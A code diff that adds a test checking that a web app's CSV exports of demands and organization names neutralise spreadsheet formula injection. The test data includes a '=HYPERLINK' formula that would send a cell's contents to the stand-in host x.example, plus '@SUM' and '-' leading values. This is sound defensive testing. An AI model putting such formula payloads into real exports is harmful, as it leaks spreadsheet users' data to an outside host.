@@ -179,6 +179,21 @@ def test_csv_streams_the_filtered_demands(archive, client):
     )
 
 
+def test_research_csv_files_give_a_spreadsheet_no_formula_to_run(archive, client):
+    # Demands and names come from uploaded documents: "=HYPERLINK(...)" must stay text.
+    from tests.pages.factories import OrganizationFactory
+
+    hostile = OrganizationFactory(name='=HYPERLINK("http://x.example/?"&A1, "see")')
+    add_demand(CommuniqueFactory(title="Hostile", issuer=hostile), "@SUM(1+1) now.", ["UN"])
+    add_demand(CommuniqueFactory(title="Numbers", issuer=hostile), "-5 percent.", ["UN"])
+    text = b"".join(client.get("/demands.csv").streaming_content).decode()
+    rows = [r for r in csv.reader(io.StringIO(text)) if r[2].startswith("'=HYPERLINK")]
+    assert {r[4] for r in rows} == {"'@SUM(1+1) now.", "'-5 percent."}
+    named = b"".join(client.get("/organizations/united-nations/cooccurrence.csv").streaming_content)
+    labels = {row[2] for row in csv.reader(io.StringIO(named.decode()))}
+    assert "'" + hostile.name in labels and hostile.name not in labels
+
+
 def test_chart_csv_has_the_chart_numbers(archive, client):
     response = client.get("/demands/chart.csv")
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
